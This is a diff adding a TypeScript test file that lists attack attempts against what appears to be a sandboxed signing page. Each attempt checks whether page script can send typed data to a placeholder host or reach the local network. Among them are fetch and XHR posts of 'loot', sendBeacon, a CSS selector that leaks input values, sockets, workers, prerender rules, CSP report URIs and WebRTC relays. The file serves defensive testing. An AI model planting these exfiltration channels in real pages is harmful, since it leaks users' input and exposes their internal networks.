@@ -1,0 +1,223 @@
+/** Sending what was typed elsewhere, or reaching the office's network, without leaving the page. */
+import type { Area } from '../attack.ts'
+import { click, loads, refusedBy, shows } from './scripts.ts'
+
+export const network: Area = {
+  title: 'Requests from within the page',
+  about:
+    'A page that stays where it is can still ask: to send elsewhere what was typed, or to look around the office’s network through us. Each request is judged before it leaves.',
+  by: 'signing page',
+  guard: ['request'],
+  attacks: [
+    {
+      name: 'fetch from this machine',
+      script: refusedBy('fetch("http://{elsewhere}/", { mode: "no-cors" })'),
+      answers: 'refused',
+      told: 'unencrypted'
+    },
+    {
+      name: 'fetch from this machine, encrypted',
+      script: refusedBy('fetch("https://{elsewhere}/", { mode: "no-cors" })'),
+      guard: ['request', 'private'],
+      answers: 'refused',
+      told: 'private network'
+    },
+    {
+      name: 'fetch from the service under another name',
+      script: refusedBy('fetch("http://localhost:{port}/loot", { mode: "no-cors" })'),
+      answers: 'refused',
+      told: 'unencrypted'
+    },
+    {
+      name: 'ask by the old interface',
+      script:
+        'return new Promise((r) => { const x = new XMLHttpRequest(); x.onload = () => r("granted"); x.onerror = () => r("refused"); x.open("POST", "http://{elsewhere}/"); x.send("loot") })',
+      answers: 'refused',
+      told: 'unencrypted'
+    },
+    {
+      name: 'fetch with a log-in in the address',
+      script: refusedBy(
+        'new Promise((r, e) => { const i = new Image(); i.onload = r; i.onerror = e; i.src = "https://ana:pw@cdn.example/a.png" })'
+      ),
+      guard: ['browser', 'request'],
+      answers: 'refused'
+    },
+    {
+      name: 'load a picture from elsewhere',
+      script: loads('img', 'e.src = "http://{elsewhere}/"'),
+      answers: 'refused',
+      told: 'unencrypted'
+    },
+    {
+      name: 'load a picture from the router',
+      script: loads('img', 'e.src = "https://192.168.1.1/logo.png"'),
+      guard: ['request', 'private'],
+      answers: 'refused',
+      told: 'private network (192.168.1.1)'
+    },
+    {
+      name: 'load a script from elsewhere',
+      script: loads('script', 'e.src = "http://{elsewhere}/"'),
+      answers: 'refused',
+      told: 'unencrypted'
+    },
+    {
+      name: 'load a part of a script from elsewhere',
+      script: refusedBy('import("http://{elsewhere}/")'),
+      answers: 'refused',
+      told: 'unencrypted'
+    },
+    {
+      name: 'take a style from elsewhere',
+      script: loads('link', 'e.rel = "stylesheet"; e.href = "http://{elsewhere}/"'),
+      answers: 'refused',
+      told: 'unencrypted'
+    },
+    {
+      name: 'take a style from elsewhere by a style',
+      script: shows('<style>@import "http://{elsewhere}/";</style>'),
+      told: 'unencrypted'
+    },
+    {
+      name: 'take letters from elsewhere',
+      script: refusedBy('new FontFace("x", "url(http://{elsewhere}/)").load()'),
+      answers: 'refused',
+      told: 'unencrypted'
+    },
+    {
+      name: 'say what was typed by a background',
+      script: shows('<style>input[value^=a] { background: url(http://{elsewhere}/a) }</style><input value=abc>'),
+      told: 'unencrypted'
+    },
+    {
+      name: 'take a drawing from elsewhere',
+      script: shows('<svg><image href="http://{elsewhere}/"/><use href="http://{elsewhere}/#a"/></svg>'),
+      told: 'unencrypted'
+    },
+    {
+      name: 'play a film from elsewhere',
+      script: loads('video', 'e.src = "http://{elsewhere}/"'),
+      answers: 'refused',
+      told: 'unencrypted'
+    },
+    {
+      name: 'show the picture before a film, and the words under it, from elsewhere',
+      script: shows(
+        '<video poster="http://{elsewhere}/p" crossorigin><track default kind=captions src="http://{elsewhere}/t"></video>'
+      ),
+      told: 'unencrypted'
+    },
+    {
+      name: 'name an icon of elsewhere',
+      script: shows(
+        '<link rel=icon href="http://{elsewhere}/icon.png"><link rel=apple-touch-icon href="http://{elsewhere}/a.png">'
+      )
+    },
+    {
+      name: 'name a manifest of elsewhere',
+      script: shows('<link rel=manifest href="http://{elsewhere}/manifest.json">')
+    },
+    {
+      name: 'have something fetched ahead',
+      script: shows(
+        '<link rel=prefetch href="http://{elsewhere}/1"><link rel=preload as=image href="http://{elsewhere}/2"><link rel=modulepreload href="http://{elsewhere}/3"><link rel=prerender href="http://{elsewhere}/4">',
+        500
+      ),
+      told: 'unencrypted'
+    },
+    {
+      name: 'have a page made ready ahead',
+      script:
+        'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ urls: ["http://{elsewhere}/1"], eagerness: "immediate" }], prerender: [{ urls: ["http://{elsewhere}/2"], eagerness: "immediate" }] }); document.head.append(s); await new Promise((r) => setTimeout(r, 500))'
+    },
+    {
+      name: 'have a page of the service made ready ahead, which would then ask elsewhere',
+      script:
+        'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prerender: [{ urls: ["/embedded?script=fetch(%22http://{elsewhere}/%22)"], eagerness: "immediate" }] }); document.head.append(s); await new Promise((r) => setTimeout(r, 600))'
+    },
+    {
+      name: 'send a last word elsewhere',
+      script: 'navigator.sendBeacon("http://{elsewhere}/", "loot"); await new Promise((r) => setTimeout(r, 300))',
+      told: 'unencrypted'
+    },
+    {
+      name: 'send a last word that outlives the page',
+      script: refusedBy(
+        'fetch("http://{elsewhere}/", { method: "POST", body: "loot", keepalive: true, mode: "no-cors" })'
+      ),
+      answers: 'refused',
+      told: 'unencrypted'
+    },
+    { name: 'send a ping with a link', ...click('<a id=go href="#here" ping="http://{elsewhere}/">go</a>') },
+    {
+      name: 'listen to events from elsewhere',
+      script:
+        'return new Promise((r) => { const e = new EventSource("http://{elsewhere}/"); e.onopen = () => r("granted"); e.onerror = () => { e.close(); r("refused") } })',
+      answers: 'refused',
+      told: 'unencrypted'
+    },
+    {
+      name: 'speak to this machine over a socket',
+      script: refusedBy(
+        'new Promise((r, e) => { const s = new WebSocket("ws://{elsewhere}/"); s.onopen = r; s.onerror = e })'
+      ),
+      guard: ['request', 'policy'],
+      answers: 'refused'
+    },
+    {
+      name: 'speak to this machine over an encrypted socket',
+      script: refusedBy(
+        'new Promise((r, e) => { const s = new WebSocket("wss://{elsewhere}/"); s.onopen = r; s.onerror = e })'
+      ),
+      guard: ['request', 'private'],
+      answers: 'refused'
+    },
+    {
+      name: 'speak to this machine by the newest protocol',
+      script: refusedBy('new WebTransport("https://{elsewhere}/").ready'),
+      guard: ['request', 'policy'],
+      answers: 'refused'
+    },
+    {
+      name: 'reach elsewhere from a worker',
+      script:
+        'const code = `fetch("http://{elsewhere}/", { mode: "no-cors" }).then(() => postMessage("granted"), () => postMessage("refused"))`; const w = new Worker(URL.createObjectURL(new Blob([code]))); return new Promise((r) => { w.onmessage = (e) => r(e.data); w.onerror = () => r("refused") })',
+      answers: 'refused'
+    },
+    {
+      name: 'run a worker of elsewhere',
+      script: refusedBy(
+        'new Promise((r, e) => { const w = new Worker("/redirect/302?to=http://{elsewhere}/"); w.onmessage = r; w.onerror = e })'
+      ),
+      answers: 'refused'
+    },
+    {
+      name: 'have a policy report what happens here to elsewhere',
+      page: '<iframe id=f></iframe>',
+      script:
+        'document.getElementById("f").src = "/say?h=" + encodeURIComponent("Content-Security-Policy:img-src \'none\'; report-uri http://{elsewhere}/csp") + "&body=" + encodeURIComponent("<img src=/a.png>"); await new Promise((r) => setTimeout(r, 400))'
+    },
+    {
+      name: 'have the answer’s header fetch from elsewhere',
+      page: '<iframe id=f></iframe>',
+      script:
+        'document.getElementById("f").src = "/say?h=" + encodeURIComponent("Link:<http://{elsewhere}/a>; rel=preload; as=image") + "&h=" + encodeURIComponent("Link:<http://{elsewhere}/b.css>; rel=stylesheet"); await new Promise((r) => setTimeout(r, 400))'
+    },
+    {
+      name: 'call another computer, past the requests',
+      script:
+        'try { new RTCPeerConnection({ iceServers: [{ urls: "turn:{elsewhere}?transport=tcp", username: "a", credential: "b" }], iceTransportPolicy: "relay" }).createDataChannel("x"); return "granted" } catch { return "refused" }',
+      guard: ['hold'],
+      answers: 'refused'
+    },
+    {
+      name: 'call another computer with what an empty frame has',
+      page: '<iframe id=f></iframe>',
+      script:
+        'try { new (document.getElementById("f").contentWindow.RTCPeerConnection)(); return "granted" } catch { return "refused" }',
+      guard: ['hold'],
+      answers: 'refused'
+    }
+  ]
+}
